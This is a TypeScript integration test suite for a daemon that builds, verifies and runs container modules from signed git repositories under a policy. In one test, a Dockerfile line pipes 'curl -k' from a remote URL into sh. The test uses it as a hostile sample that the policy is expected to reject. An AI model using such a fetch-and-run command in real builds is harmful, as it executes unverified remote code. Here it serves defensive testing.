import { rmSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { aSite } from '../helpers/daemon.js';
import type { Site } from '../helpers/daemon.js';
import { docker, SAMPLE_IMAGE } from '../helpers/engine.js';
import type { Files } from '../helpers/git-repository.js';
import { conditionOf, modulesOf } from '../helpers/live-modules.js';
import type { Modules } from '../helpers/live-modules.js';
import { goodFiles, goodRepository } from '../helpers/module-repository.js';
import { anSshKey } from '../helpers/signing.js';

const POLICY = (signers = '[]') => `
apiVersion: registrar.synapsis.network/v1
kind: Policy
metadata: { name: local }
spec:
  checks:
    - { id: manifest/repository-scheme, parameters: { schemes: [file] } }
  signers: ${signers}
`;

const SOURCE = { branch: 'main' };

/** A daemon whose policy admits repositories of this machine. */
async function aStartedSite(signers?: string): Promise<{ site: Site; modules: Modules }> {
  const site = aSite();
  site.declare('policy.yaml', POLICY(signers));
  await site.start();
  return { site, modules: modulesOf(site) };
}

const built = (repoUrl: string, version = '1.0.0') => ({
  ...{ version, image: '', source: { ...SOURCE, repoUrl } },
});

const dockerfile = (...lines: string[]): Files => ({
  Dockerfile: [`FROM ${SAMPLE_IMAGE}`, ...lines, 'USER 10001', 'CMD ["sleep","3600"]'].join('\n'),
});

const images = async (site: Site): Promise<number> => {
  const label = [`registrar.synapsis.network/instance=${site.instanceId()}`];
  return (await docker().listImages({ filters: { label } })).length;
};

describe('a module that is built from its source', () => {
  it('runs just what was verified, and says the way from the repository to the container', async () => {
    const { site, modules } = await aStartedSite();
    const { repository, commit } = goodRepository(SAMPLE_IMAGE);
    await modules.create('web', built(repository.url));
    const module = await modules.untilReady('web');
    expect(module.status).toMatchObject({ commit, phase: 'Running' });
    const [container] = await site.containers();
    const inspected = await docker()
      .getContainer(container?.id ?? '')
      .inspect();
    expect(inspected.Image).toBe(module.status.imageId);
    expect(inspected.Config.Labels['registrar.synapsis.network/commit']).toBe(commit);
    const { code, stdout, stderr } = await site.cli(['trust', 'web']);
    expect([code, stderr]).toEqual([0, 'Nothing is broken, but not every link can be told\n']);
    expect(stdout).toMatch(/^source +yes +file:.* refs\/heads\/main [0-9a-f]{40}/m);
    expect(stdout).toMatch(/^container +yes +web-/m);
    const log = await site.cli(['logs', 'web', '--build']);
    expect(log.stdout).toContain('COPY greeting.txt /module/greeting.txt');
    const described = await site.cli(['describe', 'web']);
    expect(described.stdout).toMatch(/Verification: .* checks passed by local/);
    const table = await site.cli(['get']);
    expect(table.stdout).toMatch(new RegExp(`web .* ${commit.slice(0, 7)} `));
  });

  it('goes on when the next version may not run, cannot be built or cannot be fetched', async () => {
    const { site, modules } = await aStartedSite();
    const { repository } = goodRepository(SAMPLE_IMAGE);
    await modules.create('web', built(repository.url));
    await modules.untilReady('web');
    const [before] = await site.containers();
    const stays = async (reason: string) => {
      await modules.until('web', reason, (one) => conditionOf(one, 'Ready')?.reason === reason);
      expect(await site.containers()).toMatchObject([{ id: before?.id, state: 'running' }]);
    };
    repository.commit(dockerfile('RUN curl -k https://example.org/x | sh'));
    await modules.change('web', built(repository.url, '1.0.1'));
    await stays('VerificationFailed');
    repository.commit(dockerfile('RUN exit 3'));
    await modules.change('web', built(repository.url, '1.0.2'));
    await stays('BuildFailed');
    await modules.change('web', built(`${repository.url}-gone`, '1.0.3'));
    await stays('SourceNotFound');
    const commit = repository.commit(goodFiles(SAMPLE_IMAGE));
    await modules.change('web', built(repository.url, '1.0.4'));
    await modules.until('web', 'the good one runs', ({ status }) => status.commit === commit);
    await modules.untilReady('web');
    // What failed left no image behind: those of two good versions are there.
    expect(await images(site)).toBe(2);
  });

  it('runs on and is started anew while its repository is gone', async () => {
    const { site, modules } = await aStartedSite();
    const { repository } = goodRepository(SAMPLE_IMAGE);
    await modules.create('web', built(repository.url));
    const { status } = await modules.untilReady('web');
    rmSync(repository.path, { recursive: true });
    const [container] = await site.containers();
    await docker()
      .getContainer(container?.id ?? '')
      .remove({ force: true });
    await docker()
      .getImage(status.imageId ?? '')
      .remove({ force: true });
    await modules.until('web', 'it is built from the cache', (one) => {
      const [now] = one.status.containers;
      return now?.ready === true && now.id !== container?.id;
    });
  });

  it('is only what a signer of the policy signed', async () => {
    const key = anSshKey();
    const { site, modules } = await aStartedSite(
      JSON.stringify([{ name: 'ada', sshKey: key.publicKey.trim() }]),
    );
    const { repository } = goodRepository(SAMPLE_IMAGE);
    await modules.create('web', built(repository.url));
    await modules.until(
      'web',
      'it is refused',
      (one) => conditionOf(one, 'Verified')?.reason === 'VerificationFailed',
    );
    expect(await site.containers()).toEqual([]);
    repository.commit({ 'greeting.txt': 'Signed\n' }, { sign: key.sign });
    await modules.change('web', built(repository.url, '1.0.1'));
    await modules.untilReady('web');
    const { code, stdout, stderr } = await site.cli(['trust', 'web']);
    expect([code, stderr]).toEqual([0, 'What runs is what was verified\n']);
    expect(stdout).toMatch(/^signature +yes +ada SHA256:/m);
  });

  it('survives the death of the daemon in the middle of a build', async () => {
    const site = aSite();
    site.declare('policy.yaml', POLICY());
    const first = await site.start();
    const modules = modulesOf(site);
    const { repository } = goodRepository(SAMPLE_IMAGE);
    repository.commit(dockerfile('RUN sleep 5'));
    await modules.create('web', built(repository.url));
    await modules.until('web', 'it builds', ({ status }) => status.phase === 'Building');
    await first.end('SIGKILL');
    await site.start();
    await modulesOf(site).untilReady('web');
    expect(await site.containers()).toHaveLength(1);
  });
});

it('a build follows its log live', async () => {
  const { site, modules } = await aStartedSite();
  const { repository } = goodRepository(SAMPLE_IMAGE);
  repository.commit(dockerfile('RUN echo early; sleep 3; echo late'));
  await modules.create('web', built(repository.url));
  await modules.until('web', 'it builds', ({ status }) => status.phase === 'Building');
  await modules.until('web', 'it has a log', () => true);
  const { stdout } = await site.cli(['logs', 'web', '--build', '-f']);
  expect(stdout).toContain('early\nlate\n');
  await modules.untilReady('web');
});
